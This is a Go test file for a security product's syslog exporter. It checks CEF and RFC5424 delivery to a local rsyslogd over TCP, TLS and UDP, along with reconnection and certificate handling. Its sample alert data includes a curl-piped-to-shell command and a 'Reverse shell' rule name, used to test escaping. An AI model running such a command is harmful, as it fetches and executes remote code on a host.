package export

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-cwpp/vigil/internal/store"
	"github.com/vigil-cwpp/vigil/internal/vigiltest"
)

// rsyslog is a private rsyslogd writing what it receives, one line per
// message, as "PRI|VERSION|APP|MSGID|HOSTNAME|SD|MSG".
type rsyslog struct {
	addr string
	out  string
	ca   string // the TLS listener's certificate (its own CA)
}

func freePort(t *testing.T, network string) string {
	t.Helper()
	if network == "udp" {
		c, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		return strconv.Itoa(c.LocalAddr().(*net.UDPAddr).Port)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
}

// selfSigned writes a certificate for 127.0.0.1 and its key.
func selfSigned(t *testing.T, dir string) (certFile, keyFile string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "127.0.0.1"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, IsCA: true, BasicConstraintsValid: true,
		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kder, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600)
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kder}), 0o600)
	return certFile, keyFile
}

// startRsyslog runs rsyslogd -n with a private configuration: network is
// tcp, tls (imtcp with the gtls driver, anonymous clients) or udp.
func startRsyslog(t *testing.T, network string) *rsyslog {
	t.Helper()
	bin := vigiltest.RequireCommand(t, "rsyslogd")
	dir := t.TempDir()
	r := &rsyslog{out: filepath.Join(dir, "out.log")}
	port := freePort(t, network)
	r.addr = "127.0.0.1:" + port
	var conf strings.Builder
	fmt.Fprintf(&conf, "global(workDirectory=%q maxMessageSize=\"256k\"", dir)
	if network == "tls" {
		cert, key := selfSigned(t, dir)
		r.ca = cert
		fmt.Fprintf(&conf, " defaultNetstreamDriverCAFile=%q defaultNetstreamDriverCertFile=%q defaultNetstreamDriverKeyFile=%q", cert, cert, key)
	}
	conf.WriteString(")\n")
	switch network {
	case "tcp":
		conf.WriteString("module(load=\"imtcp\")\n")
		fmt.Fprintf(&conf, "input(type=\"imtcp\" address=\"127.0.0.1\" port=%q)\n", port)
	case "tls":
		conf.WriteString("module(load=\"imtcp\" streamDriver.name=\"gtls\" streamDriver.mode=\"1\" streamDriver.authMode=\"anon\")\n")
		fmt.Fprintf(&conf, "input(type=\"imtcp\" address=\"127.0.0.1\" port=%q)\n", port)
	case "udp":
		conf.WriteString("module(load=\"imudp\")\n")
		fmt.Fprintf(&conf, "input(type=\"imudp\" address=\"127.0.0.1\" port=%q)\n", port)
	}
	conf.WriteString(`template(name="fields" type="string" string="%PRI%|%PROTOCOL-VERSION%|%APP-NAME%|%MSGID%|%HOSTNAME%|%TIMESTAMP:::date-rfc3339%|%STRUCTURED-DATA%|%msg%\n")` + "\n")
	fmt.Fprintf(&conf, "action(type=\"omfile\" file=%q template=\"fields\")\n", r.out)
	confFile := filepath.Join(dir, "rsyslog.conf")
	os.WriteFile(confFile, []byte(conf.String()), 0o600)
	if out, err := exec.Command(bin, "-N1", "-f", confFile).CombinedOutput(); err != nil {
		t.Fatalf("rsyslogd rejects the test configuration: %v\n%s\n%s", err, out, conf.String())
	}
	ctx, cancel := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, bin, "-n", "-f", confFile, "-i", filepath.Join(dir, "rsyslogd.pid"))
	logf, _ := os.Create(filepath.Join(dir, "rsyslogd.log"))
	cmd.Stdout, cmd.Stderr = logf, logf
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		cmd.Wait()
		logf.Close()
		if t.Failed() {
			b, _ := os.ReadFile(filepath.Join(dir, "rsyslogd.log"))
			t.Logf("rsyslogd output:\n%s", b)
		}
	})
	if network == "udp" {
		// Bound when /proc/net/udp lists 127.0.0.1:port.
		p, _ := strconv.Atoi(port)
		local := fmt.Sprintf("0100007F:%04X", p)
		waitFor(t, "rsyslogd to bind "+r.addr, func() bool {
			b, _ := os.ReadFile("/proc/net/udp")
			return strings.Contains(string(b), local)
		})
	} else {
		waitFor(t, "rsyslogd to listen on "+r.addr, func() bool {
			c, err := net.Dial("tcp", r.addr)
			if err != nil {
				return false
			}
			c.Close()
			return true
		})
	}
	return r
}

// lines waits until the receiver has written n lines and returns them.
func (r *rsyslog) lines(t *testing.T, n int) []string {
	t.Helper()
	var got []string
	waitFor(t, fmt.Sprintf("%d messages in rsyslog's output", n), func() bool {
		f, err := os.Open(r.out)
		if err != nil {
			return false
		}
		defer f.Close()
		got = got[:0]
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			got = append(got, sc.Text())
		}
		return len(got) >= n
	})
	return got
}

func syslogSinkConfig(r *rsyslog, network, format string) SinkConfig {
	c := SinkConfig{Type: TypeSyslog, Network: network, Format: format,
		BackoffMin: 10 * time.Millisecond, BackoffMax: 100 * time.Millisecond}
	if r != nil {
		c.Address = r.addr
	}
	if network == "tls" {
		c.TLS.CA = r.ca
	}
	return c
}

// publishAll sends the test batch through a new manager and closes it.
func publishAll(t *testing.T, c SinkConfig, b *store.Batch) SinkStats {
	t.Helper()
	m, err := New(Config{Sinks: []SinkConfig{c}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	m.Publish(b)
	n := uint64(len(itemsOf(b)))
	waitFor(t, "the sink to send", func() bool { return m.Stats()[0].Sent == n })
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := m.Close(ctx); err != nil {
		t.Fatal(err)
	}
	return m.Stats()[0]
}

func TestSyslogCEFToRsyslog(t *testing.T) {
	for _, network := range []string{"tcp", "tls", "udp"} {
		t.Run(network, func(t *testing.T) {
			r := startRsyslog(t, network)
			b := testBatch(t)
			items := itemsOf(b)
			publishAll(t, syslogSinkConfig(r, network, "cef"), b)
			got := r.lines(t, len(items))
			if len(got) != len(items) {
				t.Fatalf("rsyslog got %d messages, want %d:\n%s", len(got), len(items), strings.Join(got, "\n"))
			}
			for i, it := range items {
				f := strings.SplitN(got[i], "|", 8)
				if len(f) != 8 {
					t.Fatalf("line %d: %q", i, got[i])
				}
				pri := strconv.Itoa(16*8 + factsOf(it).syslogSev)
				if f[0] != pri || f[1] != "1" || f[2] != "vigil" || f[3] != it.Kind || f[6] != "-" {
					t.Errorf("%s: pri|version|app|msgid|host|time|sd = %q, want %s|1|vigil|%s|…|-", it.Kind, f[:7], pri, it.Kind)
				}
				if it.Kind == KindAlert && f[4] != "node-1" {
					t.Errorf("alert hostname %q, want node-1", f[4])
				}
				if ts, err := time.Parse(time.RFC3339Nano, f[5]); err != nil || !ts.Equal(it.Time().Truncate(time.Microsecond)) {
					t.Errorf("%s: timestamp %q (%v), want %v", it.Kind, f[5], err, it.Time())
				}
				if want := CEF(it); strings.TrimSpace(f[7]) != want {
					t.Errorf("%s: CEF line changed in transit:\n got %q\nwant %q", it.Kind, f[7], want)
				}
			}
			// What arrived still parses as CEF with the escaped values intact.
			_, ext := parseCEF(t, strings.TrimSpace(strings.SplitN(got[0], "|", 8)[7]))
			if ext["msg"] != b.Alerts[0].Output || ext["cs5"] != "sh -c curl http://x|sh; a=b \\ c" {
				t.Errorf("CEF extension after rsyslog: msg=%q cs5=%q", ext["msg"], ext["cs5"])
			}
		})
	}
}

func TestSyslogRFC5424ToRsyslog(t *testing.T) {
	for _, network := range []string{"tcp", "tls", "tcp-newline"} {
		t.Run(network, func(t *testing.T) {
			c := syslogSinkConfig(nil, "", "json")
			if n, ok := strings.CutSuffix(network, "-newline"); ok {
				network, c.Framing = n, "newline"
			}
			r := startRsyslog(t, network)
			b := testBatch(t)
			items := itemsOf(b)
			c.Network, c.Address = network, r.addr
			if network == "tls" {
				c.TLS.CA = r.ca
			}
			publishAll(t, c, b)
			got := r.lines(t, len(items))
			if len(got) != len(items) {
				t.Fatalf("rsyslog got %d messages, want %d", len(got), len(items))
			}
			f := strings.SplitN(got[0], "|", 8)
			wantSD := `[vigil@32473 id="01J-alert-1" agent="agent-1" rule="Reverse shell | outbound" priority="critical" technique="T1059.004" container="web" image="nginx:1.25" namespace="prod" action="freeze: done"]`
			// rsyslog passes structured data through as received (with the
			// escapes); split on | made the rule's | a field boundary, so
			// compare from the raw line.
			if !strings.Contains(got[0], "|"+wantSD+"|") {
				t.Errorf("structured data not intact:\n got %q\nwant %q", got[0], wantSD)
			}
			msg := strings.TrimSpace(got[0][strings.Index(got[0], wantSD)+len(wantSD)+1:])
			var doc struct {
				Kind  string      `json:"kind"`
				Alert store.Alert `json:"alert"`
			}
			if err := json.Unmarshal([]byte(msg), &doc); err != nil {
				t.Fatalf("MSG is not the alert's JSON: %v\n%q", err, msg)
			}
			if doc.Kind != KindAlert || doc.Alert.ID != "01J-alert-1" || doc.Alert.Output != b.Alerts[0].Output || len(doc.Alert.Raw) == 0 {
				t.Errorf("MSG decoded to %+v", doc)
			}
			if f[0] != "130" || f[2] != "vigil" || f[3] != "alert" {
				t.Errorf("header fields %q", f[:4])
			}
			if !strings.Contains(got[2], `[vigil@32473 id="scan-1/CVE-2024-1234/openssl@3.0.1" agent="agent-1" image="nginx:1.25" vuln="CVE-2024-1234" package="openssl" kev="true"]`) {
				t.Errorf("finding's structured data: %q", got[2])
			}
		})
	}
}

// A receiver restarted between two batches: the sink notices the closed
// connection, reconnects and delivers the second batch.
func TestSyslogReconnects(t *testing.T) {
	r := startRsyslog(t, "tcp")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	// A proxy we can cut: client → proxy → rsyslog.
	conns := make(chan net.Conn, 4)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			up, err := net.Dial("tcp", r.addr)
			if err != nil {
				c.Close()
				continue
			}
			conns <- c
			go func() {
				defer up.Close()
				buf := make([]byte, 64<<10)
				for {
					n, err := c.Read(buf)
					if n > 0 {
						up.Write(buf[:n])
					}
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	defer l.Close()
	c := SinkConfig{Type: TypeSyslog, Address: l.Addr().String(), Format: "cef", BackoffMin: 10 * time.Millisecond, BackoffMax: 50 * time.Millisecond}
	m, err := New(Config{Sinks: []SinkConfig{c}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close(context.Background())
	one := &store.Batch{Alerts: []store.Alert{testAlert(t, "first")}}
	m.Publish(one)
	r.lines(t, 1)
	(<-conns).Close() // the "receiver" drops the connection
	two := &store.Batch{Alerts: []store.Alert{testAlert(t, "second")}}
	m.Publish(two)
	got := r.lines(t, 2)
	if !strings.Contains(got[1], "externalId=second") {
		t.Errorf("second message: %q", got[1])
	}
	if s := m.Stats()[0]; s.Sent != 2 || s.Dropped != 0 {
		t.Errorf("stats %+v", s)
	}
}

// The server's certificate is verified: without its CA the sink fails
// (and says why); with insecure_skip_verify it delivers.
func TestSyslogTLSVerifiesTheServer(t *testing.T) {
	r := startRsyslog(t, "tls")
	c := syslogSinkConfig(r, "tls", "cef")
	c.TLS.CA = ""
	c.MaxAttempts = 1
	m := runSink(t, c)
	m.Publish(&store.Batch{Alerts: []store.Alert{testAlert(t, "unverified")}})
	waitFor(t, "a failed attempt", func() bool { return m.Stats()[0].Failed > 0 })
	if s := m.Stats()[0]; s.Sent != 0 || !strings.Contains(s.LastError, "certificate") {
		t.Errorf("stats %+v: want a certificate error and nothing sent", s)
	}
	c.TLS.Insecure, c.MaxAttempts = true, 0
	publishAll(t, c, &store.Batch{Alerts: []store.Alert{testAlert(t, "insecure")}})
	if got := r.lines(t, 1); len(got) != 1 || !strings.Contains(got[0], "externalId=insecure") {
		t.Errorf("rsyslog got %q", got)
	}
}

// A client certificate is presented when configured (checked against a Go
// TLS listener that requires one, as rsyslog's x509/certvalid mode would).
func TestSyslogTLSClientCertificate(t *testing.T) {
	dir := t.TempDir()
	serverCert, serverKey := selfSigned(t, dir)
	cdir := t.TempDir()
	clientCert, clientKey := selfSigned(t, cdir)
	crt, err := tls.LoadX509KeyPair(serverCert, serverKey)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pem, _ := os.ReadFile(clientCert)
	pool.AppendCertsFromPEM(pem)
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{crt}, ClientAuth: tls.RequireAndVerifyClientCert, ClientCAs: pool})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	got := make(chan string, 1)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				n, err := br.ReadString(' ') // octet count
				if err != nil {
					return
				}
				size, _ := strconv.Atoi(strings.TrimSpace(n))
				msg := make([]byte, size)
				if _, err := io.ReadFull(br, msg); err == nil {
					got <- string(msg)
				}
			}()
		}
	}()
	base := SinkConfig{Type: TypeSyslog, Network: "tls", Address: l.Addr().String(), Format: "cef", TLS: TLSConfig{CA: serverCert}}
	// Without the client certificate the handshake is refused.
	anon := base
	anon.MaxAttempts = 1
	m := runSink(t, anon)
	m.Publish(&store.Batch{Alerts: []store.Alert{testAlert(t, "anonymous")}})
	waitFor(t, "a failed attempt", func() bool { return m.Stats()[0].Failed > 0 })
	withCert := base
	withCert.TLS.Cert, withCert.TLS.Key = clientCert, clientKey
	publishAll(t, withCert, &store.Batch{Alerts: []store.Alert{testAlert(t, "with-cert")}})
	select {
	case msg := <-got:
		if !strings.Contains(msg, "externalId=with-cert") || !strings.HasPrefix(msg, "<130>1 ") {
			t.Errorf("message %q", msg)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no message over the client-authenticated connection")
	}
}

// A message too big for a datagram is dropped at once, not retried.
func TestSyslogUDPTooBigDrops(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	m := runSink(t, SinkConfig{Type: TypeSyslog, Network: "udp", Address: pc.LocalAddr().String()})
	a := testAlert(t, "big")
	a.Output = strings.Repeat("x", 70000)
	m.Publish(&store.Batch{Alerts: []store.Alert{a, testAlert(t, "small")}})
	waitFor(t, "the big one dropped, the small one sent", func() bool { s := m.Stats()[0]; return s.Dropped == 1 && s.Sent == 1 })
	buf := make([]byte, 65536)
	pc.SetReadDeadline(time.Now().Add(10 * time.Second))
	n, _, err := pc.ReadFrom(buf)
	if err != nil || !strings.Contains(string(buf[:n]), `"id":"small"`) {
		t.Errorf("datagram %q, %v", buf[:n], err)
	}
}
